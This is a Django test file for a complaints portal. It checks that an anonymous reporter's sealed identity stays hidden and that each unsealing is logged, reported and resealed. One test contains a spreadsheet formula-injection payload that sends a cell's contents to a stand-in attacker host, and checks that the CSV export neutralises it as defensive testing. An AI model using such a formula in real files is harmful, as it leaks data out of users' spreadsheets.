"""The sealed identity of an anonymous reporter: hidden from every staff page, search and the
admin, the complaint team included, until a handler of the complaint's provider opens it with a
written reason. The opening is a row and a timeline event, shown to the opener only, mailed to
the provider's complaint supervisor and listed in the monthly seal report; closing the
complaint reseals it, and reopening does not unseal it."""

import csv
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from complaints.constants import ComplaintStatus, NamedAs, SealPurpose
from complaints.exceptions import ComplaintError
from complaints.models import Complaint, ComplaintNamedStaff, SealOpening
from complaints.selectors import reporter_visible
from complaints.services import (
    complaint_reopen,
    complaint_seal_open,
    complaint_transition,
)
from portal.constants import SENSITIVE_ROLES, TWO_FACTOR_ROLES, Role
from portal.events import event_list
from portal.models import Service
from tests.factories import SERVICE_SLUG, ProviderFactory, ServiceFactory

pytestmark = pytest.mark.django_db

QUEUE = reverse("complaints_queue")
REPORT = reverse("complaints_seal_report")
REASON = "Pelapor perlu dihubungi untuk melengkapi bukti transfer yang tidak terbaca."
NAME = "Rahasia Sekali"
EMAIL = "rahasia@contoh.test"
PHONE = "081234567890"


@pytest.fixture
def other():
    return ProviderFactory(slug="penyelenggara-kedua", name="Penyelenggara Kedua")


@pytest.fixture
def colleague(make_user):
    return make_user("pengaduan2", Role.COMPLAINT_HANDLER, first_name="Agus Salim")


@pytest.fixture
def supervisor(make_user):
    return make_user("supervisor", Role.COMPLAINT_SUPERVISOR, first_name="Dewi Lestari")


@pytest.fixture
def stranger_handler(make_user, other):
    return make_user("pengaduan-lain", Role.COMPLAINT_HANDLER, provider=other)


@pytest.fixture
def reporter_account(make_user):
    return make_user("pelapor-akun", first_name="Akun Pelapor Anonim")


@pytest.fixture
def sealed(make_complaint, reporter_account):
    return make_complaint(
        service=Service.objects.get(slug=SERVICE_SLUG),
        subject="Petugas meminta imbalan",
        reporter=reporter_account,
        reporter_name=NAME,
        reporter_email=EMAIL,
        reporter_phone=PHONE,
        anonymous=True,
    )


def detail(complaint) -> str:
    return reverse("complaints_detail", args=[complaint.public_id])


def open_url(complaint) -> str:
    return reverse("complaints_seal_open", args=[complaint.public_id])


def names_reporter(html: str) -> bool:
    return any(
        secret in html for secret in (NAME, EMAIL, PHONE, "pelapor-akun", "Akun Pelapor Anonim")
    )


def as_user(client, user):
    client.force_login(user)
    return client


def opened(complaint, handler) -> SealOpening:
    return complaint_seal_open(
        complaint=complaint, actor=handler, purpose=SealPurpose.CALL_BACK, reason=REASON
    )


# --- sealed by default ------------------------------------------------------------------------


def test_the_team_sees_neither_name_email_phone_nor_account_of_an_anonymous_reporter(
    client, handler, sealed
):
    as_user(client, handler)

    page = client.get(detail(sealed)).content.decode()
    queue = client.get(QUEUE).content.decode()

    assert sealed.subject in queue and sealed.subject in page
    for html in (queue, page):
        assert not names_reporter(html)
        assert "Identitas disegel" in html
    assert not reporter_visible(complaint=sealed, user=handler)


@pytest.mark.parametrize("typed", [NAME, "rahasia sekali", EMAIL, "contoh.test"])
def test_a_name_or_email_typed_in_the_search_does_not_find_a_sealed_complaint(
    client, handler, sealed, typed
):
    as_user(client, handler)

    response = client.get(QUEUE, {"cari": typed, "status": "semua"})

    assert response.status_code == 200
    assert list(response.context["page"]) == []


def test_the_tracking_code_and_subject_still_find_a_sealed_complaint(client, handler, sealed):
    as_user(client, handler)

    for typed in (sealed.tracking_code, "imbalan"):
        found = client.get(QUEUE, {"cari": typed}).context["page"]
        assert [complaint.pk for complaint in found] == [sealed.pk]


def test_a_named_reporter_is_shown_to_the_team_as_before(client, handler, make_complaint):
    named = make_complaint(reporter_name="Sri Rahayu", reporter_email="sri@contoh.test")
    as_user(client, handler)

    page = client.get(detail(named)).content.decode()

    assert "Sri Rahayu" in page and "sri@contoh.test" in page
    assert "Buka segel identitas" not in page
    assert [c.pk for c in client.get(QUEUE, {"cari": "sri rahayu"}).context["page"]] == [named.pk]
    with pytest.raises(ComplaintError):
        opened(named, handler)


def test_other_staff_and_outsiders_are_refused_the_team_pages(
    client, sealed, verifier, outsider, supervisor
):
    for user in (verifier, outsider, supervisor):
        as_user(client, user)
        assert client.get(detail(sealed)).status_code == 403
        assert (
            client.post(open_url(sealed), {"purpose": "call_back", "reason": REASON}).status_code
            == 403
        )
    client.logout()
    assert client.get(detail(sealed)).status_code == 302
    assert (
        client.post(open_url(sealed), {"purpose": "call_back", "reason": REASON}).status_code == 302
    )
    assert not SealOpening.objects.exists()


def test_another_providers_handler_finds_nothing(client, sealed, stranger_handler):
    as_user(client, stranger_handler)

    assert client.get(detail(sealed)).status_code == 404
    assert (
        client.post(open_url(sealed), {"purpose": "call_back", "reason": REASON}).status_code == 404
    )
    with pytest.raises(ComplaintError):
        opened(sealed, stranger_handler)
    assert not SealOpening.objects.exists()


# --- opening ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data, field",
    [
        ({"purpose": "call_back", "reason": ""}, "reason"),
        ({"purpose": "call_back", "reason": "perlu saja"}, "reason"),
        ({"purpose": "call_back", "reason": "   " + "x" * 5 + "   "}, "reason"),
        ({"purpose": "menebak", "reason": REASON}, "purpose"),
    ],
    ids=["no-reason", "short-reason", "blank-padded", "unknown-purpose"],
)
def test_opening_needs_a_purpose_and_a_written_reason(client, handler, sealed, data, field):
    as_user(client, handler)

    response = client.post(open_url(sealed), data)

    assert response.status_code == 400
    assert response.context["seal_form"].errors[field]
    assert not names_reporter(response.content.decode())
    assert not SealOpening.objects.exists()


def test_the_short_reason_error_says_how_long_it_must_be(handler, sealed):
    with pytest.raises(ComplaintError) as refused:
        complaint_seal_open(
            complaint=sealed, actor=handler, purpose=SealPurpose.ABUSE, reason="cek"
        )
    assert refused.value.field == "reason"
    assert "20 karakter" in str(refused.value.message)


def test_opening_shows_the_identity_to_the_opener_and_records_who_when_why(
    client, handler, supervisor, sealed, django_capture_on_commit_callbacks
):
    as_user(client, handler)
    mail.outbox.clear()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(open_url(sealed), {"purpose": "call_back", "reason": REASON})

    assert response.status_code == 302
    (opening,) = SealOpening.objects.all()
    assert (opening.complaint, opening.opened_by, opening.reason) == (sealed, handler, REASON)
    assert opening.opened_at is not None and opening.resealed_at is None
    page = client.get(detail(sealed)).content.decode()
    for secret in (NAME, EMAIL, PHONE, "pelapor-akun"):
        assert secret in page
    assert "Segel identitas pelapor dibuka" in page and REASON in page
    assert [c.pk for c in client.get(QUEUE, {"cari": NAME}).context["page"]] == [sealed.pk]
    (event,) = event_list(subject=sealed).filter(kind="seal_opened")
    assert event.actor == handler
    # The supervisor is told (who, when, why, which complaint), never who reported.
    (message,) = [m for m in mail.outbox if supervisor.email in m.to]
    assert handler.first_name in message.subject
    assert REASON in message.body and str(sealed.public_id) in message.body
    assert not names_reporter(message.subject + message.body)
    assert sealed.tracking_code not in message.body


def test_after_opening_the_colleague_still_sees_it_sealed(client, handler, colleague, sealed):
    opened(sealed, handler)
    as_user(client, colleague)

    page = client.get(detail(sealed)).content.decode()

    assert not names_reporter(page)
    assert "Identitas disegel" in page
    # The timeline says the seal was opened, by whom and why; not the identity.
    assert "Segel identitas pelapor dibuka" in page and REASON in page
    assert list(client.get(QUEUE, {"cari": NAME}).context["page"]) == []
    assert not names_reporter(client.get(QUEUE).content.decode())


def test_a_double_post_opens_the_seal_once(
    client, handler, supervisor, sealed, django_capture_on_commit_callbacks
):
    as_user(client, handler)
    mail.outbox.clear()

    data = {"purpose": "call_back", "reason": REASON}
    for _ in range(2):
        with django_capture_on_commit_callbacks(execute=True):
            assert client.post(open_url(sealed), data).status_code == 302

    assert SealOpening.objects.count() == 1
    assert event_list(subject=sealed).filter(kind="seal_opened").count() == 1
    assert len([m for m in mail.outbox if supervisor.email in m.to]) == 1


def test_only_the_complaints_providers_supervisor_is_mailed(
    make_user, other, handler, supervisor, sealed, django_capture_on_commit_callbacks
):
    theirs = make_user("supervisor-lain", Role.COMPLAINT_SUPERVISOR, provider=other)
    mail.outbox.clear()

    with django_capture_on_commit_callbacks(execute=True):
        opened(sealed, handler)

    assert [m.to for m in mail.outbox] == [[supervisor.email]]
    assert not [m for m in mail.outbox if theirs.email in m.to]


def test_the_reporters_tracking_page_does_not_show_the_opening(client, handler, sealed):
    opened(sealed, handler)
    client.logout()

    page = client.get(reverse("complaint_track", args=[sealed.tracking_code])).content.decode()

    assert "Segel" not in page and REASON not in page


def test_a_handler_the_complaint_names_cannot_open_its_seal(client, handler, sealed):
    """A complaint about a handler's own work never tells them who reported it: the service
    refuses with the conflict's reason, and the page is not theirs to find."""
    ComplaintNamedStaff.objects.create(complaint=sealed, user=handler, named_as=NamedAs.HANDLER)

    with pytest.raises(ComplaintError, match="disebut dalam pengaduan sebagai petugas pengaduan"):
        opened(sealed, handler)
    response = as_user(client, handler).post(
        open_url(sealed), {"purpose": SealPurpose.CALL_BACK, "reason": REASON}
    )

    assert response.status_code == 404
    assert not SealOpening.objects.exists()


# --- resealed when it closes ------------------------------------------------------------------


def _close(complaint, handler) -> Complaint:
    for to in (
        ComplaintStatus.VERIFIED,
        ComplaintStatus.IN_PROGRESS,
        ComplaintStatus.ANSWERED,
        ComplaintStatus.CLOSED,
    ):
        complaint_transition(complaint=complaint, to=to, actor=handler, note="Selesai ditangani.")
    return complaint


def test_closing_reseals_and_reopening_does_not_unseal(client, handler, sealed):
    opened(sealed, handler)
    _close(sealed, handler)

    opening = SealOpening.objects.get()
    assert opening.resealed_at is not None
    as_user(client, handler)
    page = client.get(detail(sealed)).content.decode()
    assert not names_reporter(page)
    assert "Buka segel identitas" not in page  # finished: it cannot be opened again
    with pytest.raises(ComplaintError):
        opened(sealed, handler)

    complaint_reopen(complaint=sealed, note="Masalahnya terulang lagi minggu ini.")
    sealed.refresh_from_db()
    assert sealed.status == ComplaintStatus.IN_PROGRESS
    assert not reporter_visible(complaint=sealed, user=handler)
    assert not names_reporter(client.get(detail(sealed)).content.decode())
    # A new opening after reopening is a new row, with its own reason.
    opened(sealed, handler)
    assert SealOpening.objects.count() == 2
    assert reporter_visible(complaint=sealed, user=handler)


def test_an_opening_counts_only_while_the_complaint_is_not_finished(handler, sealed):
    """Derived from the data: a finished complaint is sealed even if no stamp was written."""
    opened(sealed, handler)
    Complaint.objects.filter(pk=sealed.pk).update(status=ComplaintStatus.REJECTED)
    sealed.refresh_from_db()

    assert not reporter_visible(complaint=sealed, user=handler)


# --- the supervisor's seal report -------------------------------------------------------------


def test_the_supervisor_reads_the_months_openings_of_their_provider_only(
    client, handler, supervisor, sealed, stranger_handler, make_complaint, other
):
    theirs = make_complaint(
        service=ServiceFactory(provider=other, name="Layanan Kedua", slug="layanan-kedua"),
        subject="Milik penyelenggara kedua",
        reporter_name="Orang Lain",
        anonymous=True,
    )
    opened(sealed, handler)
    complaint_seal_open(
        complaint=theirs,
        actor=stranger_handler,
        purpose=SealPurpose.ABUSE,
        reason="Laporan berulang dari alamat yang sama, dugaan penyalahgunaan.",
    )
    as_user(client, supervisor)

    response = client.get(REPORT)

    html = response.content.decode()
    assert response.status_code == 200
    assert [row["complaint"].pk for row in response.context["rows"]] == [sealed.pk]
    assert REASON in html and "Sari Handayani" in html and str(sealed.public_id)[:8] in html
    assert "dugaan penyalahgunaan" not in html
    assert not names_reporter(html) and sealed.tracking_code not in html


def test_the_monthly_csv_lists_each_opening_with_its_reseal(client, handler, supervisor, sealed):
    opened(sealed, handler)
    _close(sealed, handler)
    opening = SealOpening.objects.get()
    month = timezone.localtime(opening.opened_at)
    as_user(client, supervisor)

    response = client.get(reverse("complaints_seal_csv"), {"bulan": f"{month:%Y-%m}"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    header, row = rows
    assert header[0] == "Pengaduan"
    assert row[0] == str(sealed.public_id)
    assert row[2] == "Sari Handayani"
    assert row[4] == SealPurpose.CALL_BACK.label and row[5] == REASON
    assert row[6]  # resealed
    assert not names_reporter(response.content.decode("utf-8-sig"))


def test_the_monthly_csv_neutralises_a_reason_a_spreadsheet_would_run(
    client, handler, supervisor, sealed
):
    """The reason is typed by a handler and opened by the supervisor in a spreadsheet: text a
    spreadsheet would run as a formula arrives neutralised (portal.exports.cell_neutralise)."""
    formula = '=HYPERLINK("https://jahat.example/?d="&A2,"Klik untuk detail alasan ini")'
    complaint_seal_open(
        complaint=sealed, actor=handler, purpose=SealPurpose.CALL_BACK, reason=formula
    )
    month = timezone.localtime(SealOpening.objects.get().opened_at)
    as_user(client, supervisor)

    response = client.get(reverse("complaints_seal_csv"), {"bulan": f"{month:%Y-%m}"})

    cells = [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_another_month_is_empty_and_a_bad_month_is_404(client, handler, supervisor, sealed):
    opened(sealed, handler)
    last_year = timezone.localdate() - timedelta(days=400)
    as_user(client, supervisor)

    response = client.get(REPORT, {"bulan": f"{last_year:%Y-%m}"})

    assert response.status_code == 200 and response.context["rows"] == []
    assert client.get(REPORT, {"bulan": "2026-13"}).status_code == 404
    assert client.get(REPORT, {"bulan": "bulan-lalu"}).status_code == 404
    assert client.get(reverse("complaints_seal_csv"), {"bulan": "2026-13"}).status_code == 404


def test_the_seal_report_is_the_supervisors_only(client, handler, verifier, outsider, sealed):
    for user in (handler, verifier, outsider):
        as_user(client, user)
        assert client.get(REPORT).status_code == 403
        assert client.get(reverse("complaints_seal_csv")).status_code == 403


def test_another_providers_supervisor_sees_no_opening(client, make_user, other, handler, sealed):
    opened(sealed, handler)
    theirs = make_user("supervisor-lain", Role.COMPLAINT_SUPERVISOR, provider=other)
    as_user(client, theirs)

    assert client.get(REPORT).context["rows"] == []


def test_the_staff_home_links_the_seal_report_for_the_supervisor(client, supervisor, handler):
    as_user(client, supervisor)
    home = client.get(reverse("staff_home")).content.decode()
    assert home.count(f'href="{REPORT}"') == 2  # the staff home's card and the navigation
    as_user(client, handler)
    assert REPORT not in client.get(reverse("staff_home")).content.decode()


def test_the_supervisor_role_is_sensitive_and_needs_a_second_factor():
    assert Role.COMPLAINT_SUPERVISOR in SENSITIVE_ROLES
    assert Role.COMPLAINT_SUPERVISOR in TWO_FACTOR_ROLES


# --- the admin ---------------------------------------------------------------------------------


def test_the_admin_never_shows_a_sealed_identity_even_after_an_opening(
    client, make_user, handler, sealed
):
    opened(sealed, handler)
    team_admin = make_user(
        "admin-pengaduan",
        Role.ADMINISTRATOR,
        Role.COMPLAINT_HANDLER,
        is_staff=True,
        is_superuser=True,
    )
    as_user(client, team_admin)

    change = client.get(f"/admin/complaints/complaint/{sealed.pk}/change/")
    changelist = client.get("/admin/complaints/complaint/", {"q": NAME})
    history = client.get(f"/admin/complaints/complaint/{sealed.pk}/history/")
    openings = client.get("/admin/complaints/sealopening/")
    opening = client.get(f"/admin/complaints/sealopening/{SealOpening.objects.get().pk}/change/")

    for response in (change, history, openings, opening):
        assert response.status_code == 200
        assert not names_reporter(response.content.decode())
    # The reporter's fields are not searched: the name typed in finds nothing.
    assert changelist.context["cl"].result_count == 0
    assert REASON in opening.content.decode()
    assert 'name="_save"' not in opening.content.decode()
    assert client.get("/admin/complaints/sealopening/add/").status_code == 403


def test_the_seal_report_takes_the_same_number_of_queries_however_many_openings(
    client, make_user, handler, supervisor, make_complaint, django_assert_max_num_queries
):
    def some(count, start):
        for n in range(start, start + count):
            opener = make_user(f"pengaduan-{n}", Role.COMPLAINT_HANDLER)
            opened(make_complaint(reporter_name=f"Pelapor {n}", anonymous=True), opener)

    as_user(client, supervisor)
    some(1, 0)
    with CaptureQueriesContext(connection) as few:
        assert client.get(REPORT).status_code == 200
    some(6, 1)
    with django_assert_max_num_queries(len(few)):
        response = client.get(REPORT)

    assert len(response.context["rows"]) == 7


def test_deleting_the_reporters_account_in_the_admin_does_not_list_the_complaint(
    client, administrator, handler, sealed, reporter_account
):
    opened(sealed, handler)
    as_user(client, administrator)

    response = client.get(reverse("admin:registration_user_delete", args=[reporter_account.pk]))

    assert response.status_code == 200
    assert sealed.subject not in response.content.decode()
